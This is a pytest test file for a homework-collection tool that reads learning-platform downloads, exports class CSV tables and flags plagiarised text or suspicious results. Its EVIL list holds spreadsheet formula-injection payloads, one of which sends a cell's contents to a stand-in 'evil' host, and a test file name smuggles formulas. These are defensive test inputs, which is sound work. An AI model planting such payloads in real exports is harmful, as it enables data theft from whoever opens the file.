"""A class's folder as learning platforms hand it out: every submission is found, whose it is, and
nothing else counts as a broken one.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import zipfile
from datetime import datetime, timezone

import pytest
from submissions import results_dict, write_one

from course_utils.base.errors import CourseError
from course_utils.cli.main import main
from course_utils.homework.archive import write_submission
from course_utils.homework.class_table import defused, table_text
from course_utils.homework.classroom import class_csv, class_page, read_class
from course_utils.homework.downloads import Origin, platform_origin
from course_utils.homework.questions import questions
from course_utils.homework.rule import check_rule, near_equal, words_of
from course_utils.homework.schema import check_results


def one(path, seed, **changed):
    """Writes a submission without runs, which is quick to read."""
    values = results_dict(seed, families=("vae",), **changed)
    values["experiments"][0]["rows"] = []
    path.parent.mkdir(parents=True, exist_ok=True)
    return write_submission(path, check_results(values), {}, "")


ORIGINS = {
    "Jane Doe_12345_assignsubmission_file_/submission.zip": ("moodle", "12345", ""),
    "Jane_Mary Doe_7_assignsubmission_file_submission.zip": ("moodle", "7", ""),
    "doejane_111_222_submission.zip": ("canvas", "111", "222"),
    "doejane_LATE_111_333_submission-1.zip": ("canvas", "111", "333"),
    "HW 1_jdoe_attempt_2025-03-01-12-30-45_submission.zip": (
        "blackboard", "jdoe", "2025-03-01-12-30-45",
    ),
    "12345-67890 - Jane Doe - Mar 1, 2025 1230 PM/submission.zip": (
        "brightspace", "12345-67890", "",
    ),
    "12345-67890 - Jane Doe/hw/submission.zip": ("brightspace", "12345-67890", ""),
    "Group A/doejane_111_222_submission.zip": ("canvas", "111", "222"),
    "submission.zip": ("", "", ""),
    "jane_doe.zip": ("", "", ""),
}  # fmt: skip


@pytest.mark.parametrize("inside", ORIGINS)
def test_a_name_says_whose_it_is(inside):
    assert platform_origin(inside) == Origin(*ORIGINS[inside])


def moodle(folder):
    one(folder / "Jane Doe_1_assignsubmission_file_" / "submission.zip", 1)
    text = folder / "Jane Doe_1_assignsubmission_onlinetext_"
    text.mkdir()
    (text / "onlinetext.html").write_text("<p>Dear teacher")
    one(folder / "John Roe_2_assignsubmission_file_" / "submission.zip", 2)
    (folder / "John Roe_2_assignsubmission_file_" / "notes.pdf").write_bytes(b"%PDF-1.7")
    (folder / "Grades.csv").write_text("Identifier,Full name")
    return {"Student 1": "1", "Student 2": "2"}, 4


def canvas(folder):
    one(folder / "doejane_11_22_submission.zip", 1)
    one(folder / "roejohn_LATE_33_44_submission-1.zip", 2)
    (folder / "desktop.ini").write_text("[.ShellClassInfo]")
    (folder / ".DS_Store").write_bytes(b"x")
    return {"Student 1": "11", "Student 2": "33"}, 0


def blackboard(folder):
    stem = "HW_jdoe_attempt_2025-03-01-12-30-45"
    one(folder / f"{stem}_submission.zip", 1)
    (folder / f"{stem}.txt").write_text("Name: Jane Doe (jdoe)")
    return {"Student 1": "jdoe"}, 1


def brightspace(folder):
    one(folder / "1-2 - Jane Doe - Mar 1, 2025 1230 PM" / "submission.zip", 1)
    (folder / "index.html").write_text("<p>Submissions")
    return {"Student 1": "1-2"}, 1


def groups(folder):
    one(folder / "Group A" / "Jane" / "submission.zip", 1)
    one(folder / "Group A" / "John" / "hw" / "submission.zip", 2)
    (folder / "Group A" / "John" / "__MACOSX").mkdir()
    (folder / "Group A" / "Jane" / "pictures").mkdir()
    (folder / "marks" / ".hidden").mkdir(parents=True)
    (folder / "marks" / "class.html").write_text("of the last time")
    (folder / "marks" / "class-canvas.csv").write_text("of the last time")
    return {"Student 1": "", "Student 2": ""}, 1


def test_users_of_blackboard_with_underscores_stay_apart(tmp_path):
    for number, (user, day) in enumerate((("a_lee", 1), ("b_lee", 2), ("a_lee", 3))):
        stem = f"HW_{user}_attempt_2025-03-0{day}-12-30-45"
        created = f"2025-03-0{day}T12:00:00+00:00"
        one(tmp_path / f"{stem}_submission.zip", number % 2, created=created)
    school_class = read_class(tmp_path, check_rule)
    assert [one.student for one in school_class.judged] == ["Student 0", "Student 1"]
    (earlier,) = school_class.earlier
    assert earlier.source.startswith("HW_a_lee") and earlier.newest.startswith("HW_a_lee")


@pytest.mark.parametrize("hand_out", [moodle, canvas, blackboard, brightspace, groups])
def test_a_download_is_read_as_it_is(hand_out, tmp_path):
    expected, num_aside = hand_out(tmp_path)
    school_class = read_class(tmp_path, check_rule)
    assert {one.student: one.origin.id for one in school_class.judged} == expected
    assert school_class.broken == () and len(school_class.aside) == num_aside
    assert main(["homework", "collect", str(tmp_path), "--out", str(tmp_path / "out")]) == 0
    assert main(["homework", "collect", str(tmp_path), "--out", str(tmp_path / "out")]) == 0


def test_students_without_a_submission_are_listed_with_their_id(tmp_path):
    one(tmp_path / "Jane Doe_1_assignsubmission_file_" / "submission.zip", 1)
    (tmp_path / "John Roe_2_assignsubmission_onlinetext_").mkdir()
    (tmp_path / "John Roe_2_assignsubmission_onlinetext_" / "onlinetext.html").write_text("Sorry")
    (tmp_path / "Eve_3_assignsubmission_file_").mkdir()
    (tmp_path / "Eve_3_assignsubmission_file_" / "submission.zip").write_bytes(b"PK")
    school_class = read_class(tmp_path, check_rule)
    assert {one.origin.id for one in school_class.broken} == {"2", "3"}
    rows = list(csv.DictReader(io.StringIO(class_csv(school_class))))
    assert {row["platform id"] for row in rows} == {"1", "2", "3"}


def test_two_students_of_one_name_with_ids_stay_two(tmp_path):
    one(tmp_path / "doejane_1_22_submission.zip", 1, student="Jane Doe")
    one(tmp_path / "doejane_2_33_submission.zip", 2, student="J\u0430ne\u200b Doe")
    one(tmp_path / "doejane_2_44_submission-1.zip", 2, student="Janet Doe")
    school_class = read_class(tmp_path, check_rule)
    assert [one.student for one in school_class.judged] == ["Jane Doe", "Janet Doe"]
    assert [one.source for one in school_class.earlier] == ["doejane_2_33_submission.zip"]
    (tmp_path / "doejane_2_44_submission-1.zip").unlink()
    (asked,) = read_class(tmp_path, check_rule).questions
    assert asked.students == (0, 1) and "names look the same" in asked.text


def test_a_download_that_is_not_unpacked_says_so(tmp_path):
    with zipfile.ZipFile(tmp_path / "submissions.zip", "w") as archive:
        archive.writestr("doejane_1_2_submission.zip", one(tmp_path / "x.zip", 1).read_bytes())
    with pytest.raises(CourseError, match="unpack the platform's download first"):
        read_class(tmp_path / "submissions.zip", check_rule)


EVIL = [
    'Ada;=HYPERLINK("http://evil/"&A1)',
    "Ben,=1+1",
    "x; @SUM(A1)",
    "y;  -2+3",
    "=1;=2",
    "；＝1",
]


@pytest.mark.parametrize("separator", ["comma", "semicolon"])
@pytest.mark.parametrize("text", EVIL)
def test_no_cell_is_a_formula_at_either_separator(separator, text, tmp_path):
    one(tmp_path / "a.zip", 1, student=text)
    shutil.copy(tmp_path / "a.zip", tmp_path / "b;=2+2;,=3.zip")
    written = class_csv(read_class(tmp_path, check_rule), separator)
    for delimiter in ",;\t":
        for line in csv.reader(io.StringIO(written), delimiter=delimiter):
            assert not [cell for cell in line if cell.strip()[:1] in set("=+@-|%＝＋－＠")]
    widths = {
        len(line) for line in csv.reader(io.StringIO(written), delimiter=",;"[separator != "comma"])
    }
    assert len(widths) == 1


def test_numbers_are_written_as_the_separators_country_writes_them():
    rows = [["a", "b"], ["-0.5", "1.5e-05"], ["v1.5", "2"]]
    assert table_text(rows, "semicolon") == "a;b\r\n-0,5;1,5e-05\r\nv1.5;2\r\n"
    assert table_text(rows) == "a,b\r\n-0.5,1.5e-05\r\nv1.5,2\r\n"
    assert defused("a; b") == "a, b" and defused("1;-2") == "1,'-2"
    with pytest.raises(CourseError, match="separator"):
        table_text(rows, "tab")


@pytest.mark.parametrize(
    "platform, head, cells",
    [
        ("canvas", ["Student", "ID", "SIS User ID"], {"ID": "11", "Homework": "incomplete"}),
        ("moodle", ["Identifier", "Full name", "Status"], {"Identifier": "Participant 11"}),
    ],
)
def test_platforms_find_their_own_ids(platform, head, cells, tmp_path, capsys):
    names = {"canvas": "doejane_11_22_submission.zip", "moodle": "J_11_assignsubmission_file_s.zip"}
    one(tmp_path / names[platform], 1)
    one(tmp_path / "roe.zip", 2)
    arguments = ["homework", "collect", str(tmp_path), "--for", platform]
    assert main(arguments) == 0
    text = (tmp_path / f"class-{platform}.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0])[:3] == head and cells.items() <= rows[0].items() and len(rows) == 2
    assert "1 submissions without an id" in capsys.readouterr().out
    assert main(arguments) == 0  # the tables are no submissions


DISGUISES = {
    "zero width": lambda text: text.replace("e", "e\u200b"),
    "soft hyphens": lambda text: text.replace("ti", "t\u00adi"),
    "cyrillic": lambda text: text.translate(str.maketrans("aeopcxy", "аеорсху")),
    "greek": lambda text: text.translate(str.maketrans("ovA", "ονΑ")),
    "full width": lambda text: "".join(chr(ord(c) + 0xFEE0) if c.isalpha() else c for c in text),
    "accents": lambda text: text.replace("a", "a\u0301"),
    "fillers": lambda text: text.replace("s", "s\u3164\ufe0f\u034f"),
    "upper case": str.upper,
    "other order": lambda text: " ".join(reversed(text.split())),
}
ORIGINAL = (
    "A wider latent space makes sharper samples because the decoder is told more of each image,"
    " yet the prior covers less of it and recall falls."
)


@pytest.mark.parametrize("name", DISGUISES)
def test_a_copied_text_is_found_in_disguise(name):
    other = "The learning rate was too high for this discriminator and so the loss ran away soon."
    texts = {"original": ORIGINAL, "copy": DISGUISES[name](ORIGINAL), "other": other}
    assert [pair[:2] for pair in near_equal(texts)] == [("original", "copy")]


def test_text_that_is_seen_stays():
    assert words_of("naïve Ёж ２Ｄ") == words_of("naive еж 2d") != words_of("naive уж 2d")
    assert words_of("क्ष") != words_of("कष")


def of(values):
    return [check_results(one) for one in values]


def spread_out(values, seed):
    """Gives the runs moments of their own, as trainings have them."""
    for number, row in enumerate(row for study in values["experiments"] for row in study["rows"]):
        row["started"] = f"2025-03-01T10:{number:02d}:{seed:02d}+00:00"
        row["finished"] = f"2025-03-01T10:{number:02d}:{seed + 30:02d}+00:00"
        row["metrics"]["precision"]["value"] = min(row["metrics"]["precision"]["value"], 1.0)
    return values


NOW = datetime(2025, 3, 2, tzinfo=timezone.utc)


def asked(*values):
    return questions(of(values), NOW)


def honest(seed):
    return spread_out(results_dict(seed), seed)


def test_honest_students_are_asked_nothing():
    assert asked(*(honest(seed) for seed in range(8))) == []


def test_numbers_of_another_student_are_asked_about():
    victim, thief = honest(1), honest(2)
    stolen = [row["metrics"] for row in victim["experiments"][0]["rows"]][3:]
    for row, metrics in zip(thief["experiments"][0]["rows"][3:], stolen):
        row["metrics"] = json.loads(json.dumps(metrics))
        row["metrics"]["FID"]["value"] *= 1 + 1e-9
    (question,) = asked(victim, honest(3), thief)
    assert question.students == (0, 2) and question.text.startswith("3 runs of different settings")


def test_whole_runs_of_another_student_are_asked_about():
    victim, thief = honest(1), honest(1)
    found = asked(victim, {**thief, "student": "Eve"})
    assert [one.students for one in found] == [(0, 1)] and "12 runs are the same" in found[0].text


def test_class_models_of_equal_settings_are_compared():
    values = [honest(seed) for seed in range(5)]
    values[3]["experiments"][0]["rows"][0]["metrics"]["FID"]["value"] = 0.5
    (question,) = asked(*values)
    assert question.students == (3,) and "vae baseline, seed 0: FID is 0.5" in question.text
    both = asked(values[3], values[4])
    assert [one.students for one in both] == [(0, 1)]  # which of two is wrong cannot be said


def with_metric(name, **changed):
    values = honest(1)
    for row in values["experiments"][0]["rows"]:
        row["metrics"][name] |= changed
    return values


def at_once():
    values = honest(1)
    for number, row in enumerate(row for study in values["experiments"] for row in study["rows"]):
        row["started"] = f"2025-03-01T10:00:00.{number:03d}+00:00"
    return values


def quick():
    values = honest(1)
    values["experiments"][1]["rows"][2]["training_seconds"] = 0.3
    return values


ODD = {
    "FID is 0 or less": with_metric("FID", value=0.0),
    "FID has an error of exactly 0": with_metric("FID", error=0.0),
    "started within one second": at_once(),
    "took less than 2 s (dcgan baseline, seed 2)": quick(),
    "lies in the future": {**honest(1), "created": "2025-03-04T00:00:00+00:00"},
}


@pytest.mark.parametrize("text", ODD)
def test_impossible_numbers_are_asked_about(text):
    found = [one for one in asked(ODD[text], honest(2)) if text in one.text]
    assert [one.students for one in found] == [(0,)]


def test_questions_stand_on_the_page_and_in_the_table(tmp_path, monkeypatch):
    monkeypatch.setattr("course_utils.homework.classroom.class_png", lambda *_: None)
    for seed in (1, 2):
        write_one(tmp_path / f"{seed}.zip", seed, student="Jane & Co", created=f"2025-03-0{seed}")
    shutil.move(tmp_path / "1.zip", tmp_path / "a_1_2_x.zip")
    shutil.move(tmp_path / "2.zip", tmp_path / "a_2_3_x.zip")
    school_class = read_class(tmp_path, check_rule)
    assert "Questions to ask" in class_page(school_class)
    rows = csv.DictReader(io.StringIO(class_csv(school_class)))
    assert all(int(row["questions"]) >= 1 for row in rows)
